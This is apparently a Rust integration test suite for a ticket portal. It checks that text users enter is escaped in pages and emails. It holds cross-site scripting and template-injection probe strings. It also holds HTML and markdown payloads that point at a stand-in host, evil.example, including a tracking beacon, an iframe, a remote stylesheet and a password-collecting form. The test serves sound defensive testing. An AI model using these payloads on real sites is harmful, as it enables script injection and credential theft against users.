//! What people write, shown to others: it stays text.

use crate::scene::{Scene, parts};
use portal_domain::usecase::{self, CustomerEntry};
use portal_tests::guests::visitor;
use portal_tests::http::Page;
use portal_tests::postgres::Backend;
use reqwest::Method;
use serde_json::json;

/// A little of everything that a browser would act upon.
const ACTIVE: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>{{7*7}}${7*7}&lt;b&gt;";
/// The same without signs that names of files cannot have.
const ACTIVE_NAME: &str = "a\"><img src=x onerror=alert(1)>.txt";

/// Nothing of it became part of the page.
#[track_caller]
fn assert_inert(page: &Page) {
    assert_eq!(page.header("x-content-type-options"), Some("nosniff"));
    let header = |name: &str| page.header(name).unwrap_or_default();
    if header("content-type").starts_with("text/plain") {
        // A text to be saved holds what was written as it was written.
        assert!(header("content-disposition").starts_with("attachment;"));
        assert_eq!(
            header("content-security-policy"),
            "default-src 'none'; sandbox"
        );
        return;
    }
    let body = page.body.to_lowercase();
    for active in [
        "<script>alert",
        "<img src=x",
        "<svg onload",
        "onerror=alert(1)>\"",
        ">49<",
    ] {
        assert!(
            !body.contains(active),
            "{}: {active}\n{}",
            page.asked,
            page.body
        );
    }
    // Escaping once is enough: what was typed escaped stays as it was typed.
    let policy = page.header("content-security-policy").unwrap_or_default();
    assert!(
        policy.contains("default-src 'none'") && !policy.contains("unsafe"),
        "{policy}"
    );
}

/// Proves AC-60: whatever people write is shown as they wrote it, to contacts, employees and administrators, and in mails.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_ac_60_what_people_write_stays_text() {
    let scene = Scene::on(Backend::Sqlite).await;
    let (portal, actor) = (&scene.house.portal, scene.house.actor("ada.wirth").await);
    // Names of the company, the customer, the project, the task and people.
    for (table, column) in [
        ("customer", "name"),
        ("project", "name"),
        ("task", "name"),
        ("contact", "last_name"),
        ("employee", "name"),
    ] {
        let escaped = ACTIVE.replace('\'', "''");
        scene
            .beneath
            .execute(&format!("UPDATE {table} SET {column} = '{escaped}'"))
            .await;
    }
    let settings = json!(ACTIVE).to_string().replace('\'', "''");
    scene
        .beneath
        .execute(&format!("UPDATE settings SET document = json_set(document, '$.company_name', json('{settings}'))"))
        .await;
    let entry = CustomerEntry {
        number: "<b>10003</b>".to_owned(),
        name: ACTIVE.to_owned(),
        active: true,
        language: None,
    };
    usecase::create_customer(portal, &actor, &entry)
        .await
        .unwrap();

    let marta = scene.api("marta.sommer").await;
    let eva = scene.api("eva.brandt").await;
    let body = json!({
        "subject": ACTIVE, "description": format!("{ACTIVE}\njavascript:alert(1)"), "reference": ACTIVE,
        "project": scene.house.project.to_string(),
    });
    let form = parts(
        &body,
        &[(
            ACTIVE_NAME,
            "text/html",
            b"<script>alert(1)</script>".to_vec(),
        )],
    );
    let page = marta
        .call(Method::POST, "/api/v1/tickets")
        .with(|r| r.multipart(form))
        .send()
        .await;
    let number = crate::scene::number(&page.with_status(201));
    let comment = json!({"body": ACTIVE, "audience": "public"});
    eva.post(&format!("/api/v1/tickets/{number}/comments"), &comment)
        .send()
        .await
        .with_status(201);
    for status in ["in_process", "done"] {
        crate::scene::change_status(&eva, &number, &json!({"to": status}))
            .await
            .with_status(200);
    }
    let reject = json!({"to": "rejected", "comment": ACTIVE});
    crate::scene::change_status(&marta, &number, &reject)
        .await
        .with_status(200);

    for login in ["marta.sommer", "eva.brandt", "ada.wirth"] {
        let mut person = visitor(&scene.house, login).await;
        let query =
            "search=%3Cscript%3Ealert(1)%3C/script%3E%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E";
        for route in adapter_http::routes::page_routes() {
            if route.method != "GET" {
                continue;
            }
            let path = route
                .path
                .replace(":number", &number)
                .replace(":contact", &scene.marta.to_string())
                .replace(":grant", &scene.marta_grant.to_string())
                .replace(":customer", &scene.house.customer.to_string())
                .replace(":project", &scene.house.project.to_string())
                .replace(":task", &scene.house.task.to_string())
                .replace(":employee", &scene.house.eva.to_string());
            assert_inert(
                &person
                    .get(&format!("{path}?{query}&notice=<script>alert(1)</script>"))
                    .await,
            );
        }
        let page = person
            .get(&format!("/tickets/{number}"))
            .await
            .with_status(200);
        assert!(
            page.sees("<script>alert(1)</script>"),
            "it is shown as it was typed: {}",
            page.words()
        );
    }
    crate::login::all_sent(&scene).await;
    let mails = scene.house.smtp.mails();
    assert!(!mails.is_empty());
    for mail in mails {
        let html = mail.html.to_lowercase();
        for active in ["<script", "<img", "<svg", "onerror=alert(1)>\""] {
            assert!(!html.contains(active), "{html}");
        }
    }
}

/// Proves AC-61: texts are no markup: no link runs anything, nothing is loaded from elsewhere, and depth costs nothing.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_ac_61_texts_load_and_run_nothing() {
    let scene = Scene::on(Backend::Sqlite).await;
    let marta = scene.api("marta.sommer").await;
    let number = scene.ticket(&marta, "Press 3 stops").await;
    let quotes = "> ".repeat(12_000);
    for text in [
        "[click](javascript:alert(1)) <javascript:alert(1)> javascript:alert(1)",
        "[click](data:text/html;base64,PHNjcmlwdD4=) data:text/html,<script>alert(1)</script>",
        "![beacon](https://evil.example/beacon.png) <img src=\"https://evil.example/beacon.png\">",
        "<iframe src=https://evil.example></iframe><link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css);</style><base href=https://evil.example/>",
        "<form action=https://evil.example><input name=password></form><meta http-equiv=refresh content=0;url=//evil.example>",
        quotes.as_str(),
    ] {
        let path = format!("/api/v1/tickets/{number}/comments");
        marta
            .post(&path, &json!({"body": text}))
            .send()
            .await
            .with_status(201);
    }
    let mut person = visitor(&scene.house, "eva.brandt").await;
    let page = person
        .get(&format!("/tickets/{number}"))
        .await
        .with_status(200);
    for link in page.links() {
        let href = link.href.to_lowercase();
        assert!(
            !href.starts_with("javascript:") && !href.starts_with("data:"),
            "{href}"
        );
        assert!(
            href.starts_with('/') || href.starts_with('#') || href.starts_with('?'),
            "{href}"
        );
    }
    let body = page.body.to_lowercase();
    for loaded in [
        "<img src=\"http",
        "<iframe",
        "<style",
        "<base",
        "<meta http-equiv",
        "src=\"//",
        "href=\"//",
        "action=\"http",
    ] {
        assert!(!body.contains(loaded), "{loaded}");
    }
    for form in page.forms() {
        assert!(
            form.action.is_empty() || form.action.starts_with('/'),
            "{}",
            form.action
        );
    }
    crate::login::all_sent(&scene).await;
    for mail in scene.house.smtp.mails() {
        let html = mail.html.to_lowercase();
        for loaded in [
            "<img",
            "<iframe",
            "src=",
            "javascript:alert(1)\"",
            "href=\"data:",
            "url(http",
        ] {
            assert!(!html.contains(loaded), "{loaded}: {html}");
        }
    }
}
